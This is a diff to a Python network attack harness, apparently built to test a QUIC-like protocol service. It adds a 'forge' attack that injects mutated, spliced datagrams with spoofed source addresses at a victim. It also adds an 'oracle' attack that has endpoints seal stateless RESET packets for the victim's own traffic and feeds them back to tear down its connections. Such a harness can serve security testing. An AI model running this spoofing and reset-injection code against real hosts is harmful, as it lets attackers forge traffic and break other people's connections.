@@ -14,7 +14,7 @@ import struct
 import sys
 import time
 
-from frames import (HELLO, SUCI_PORT, Datagram, arp, eth, mac, mac_of, noise, packets,
+from frames import (HELLO, RESET, RESET_LEN, SEAL_TAG, SUCI_PORT, Datagram, arp, eth, mac, mac_of, noise, packets,
                     udp, unreachable, until)
 
 BROADCAST = b"\xff" * 6
@@ -130,6 +130,77 @@ def replay(port, path, victim, victim_mac, how, seconds):
             break
     print(n, "frames", how)
     return n > 0
+
+
+def mangled(rng, d, other):
+    """One datagram made of two recorded ones, and where it pretends to come from: any type, and what was
+    sealed is flipped, cut, longer, or ends as another one does.  Some stay as they were."""
+    data, how = bytearray(d.data), rng.randrange(8)
+    if how == 0:
+        data[0] = 0x10 | rng.randrange(16)
+    elif how == 1:
+        data[1] ^= 1 << rng.randrange(8)
+    elif how == 2:
+        for _ in range(rng.randrange(1, 5)):
+            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
+    elif how == 3:
+        data = data[:rng.randrange(1, len(data))]
+    elif how == 4:
+        data = data[:16] + other.data[16:]
+    elif how == 5:
+        data[-SEAL_TAG:] = other.data[-SEAL_TAG:]
+    elif how == 6:
+        data[4:8], data[0] = noise(4), 0x10 | rng.randrange(9)
+    src = (d.src, d.dst, other.src)[rng.randrange(3)]
+    return src, d.sport, bytes(data)
+
+
+def forge(port, path, victim, victim_mac, count, rate):
+    """COUNT datagrams made of recorded ones, of all types, flipped, cut, spliced, from either end's address
+    or a third one's."""
+    s, rng = packets(port), random.Random(1)
+    vic, to = socket.inet_aton(victim), mac(victim_mac)
+    known = [d for d in map(Datagram, recorded(path)) if d.ok]
+    began = time.monotonic()
+    for n in range(int(count)):
+        d = known[rng.randrange(len(known))]
+        src, sport, data = mangled(rng, d, known[rng.randrange(len(known))])
+        if src == vic:
+            src = d.src if d.src != vic else d.dst
+        s.send(eth(to, d.eth_src, udp(src, vic, sport, SUCI_PORT, data)))
+        if n % 64 == 0:
+            time.sleep(max(0, began + n / float(rate) - time.monotonic()))
+    print(int(count), "datagrams forged")
+
+
+def oracle(victim_port, third_port, seconds, victim, victim_mac, third, third_mac):
+    """Has the victim, and a third end with the key, seal a RESET for a tag of the victim's own packets, and
+    hands each back to the victim as its peer's (RFC 9000, 21.11): about the packet, then about the
+    probe with which the victim asks."""
+    at_victim, at_third = packets(victim_port), packets(third_port)
+    vic, to, thr, to_third = socket.inet_aton(victim), mac(victim_mac), socket.inet_aton(third), mac(third_mac)
+    asked = handed = 0
+    peer = None
+    for _ in until(float(seconds)):
+        for s in select.select([at_victim, at_third], [], [], 0.2)[0]:
+            d = Datagram(s.recv(9200))
+            if not d.ok or d.src not in (vic, thr) or not d.data[1] & 0x80:
+                continue
+            if d.data[0] & 15 == RESET:
+                if peer:
+                    at_victim.send(eth(to, peer.eth_dst, udp(peer.dst, vic, peer.dport, SUCI_PORT, d.data)))
+                    handed += 1
+                continue
+            if d.src != vic or d.dst == thr or len(d.data) < 32:
+                continue
+            peer = d
+            # Only as long as an answer is allowed to be; the header as the victim wrote it.
+            question = d.data[:16] + noise(max(RESET_LEN, len(d.data)) - 32) + d.data[-SEAL_TAG:]
+            at_victim.send(eth(to, d.eth_src, udp(thr[:3] + b"\x42", vic, 7812, SUCI_PORT, question)))
+            at_third.send(eth(to_third, d.eth_src, udp(vic, thr, 7812, SUCI_PORT, question)))
+            asked += 2
+    print(asked, "questions,", handed, "RESETs handed back")
+    return asked > 0 and handed > 0
 
 
 # --- connections --------------------------------------------------------------
@@ -289,7 +360,7 @@ def listen(port):
         s.accept()[0].close()
 
 
-ATTACKS = [forge_arp, icmp, hello, garbage, record, replay, hold, squat, scan, probe, rpc, listen]
+ATTACKS = [forge_arp, icmp, hello, garbage, record, replay, forge, oracle, hold, squat, scan, probe, rpc, listen]
 
 if __name__ == "__main__":
     chosen = {f.__name__: f for f in ATTACKS}[sys.argv[1]]
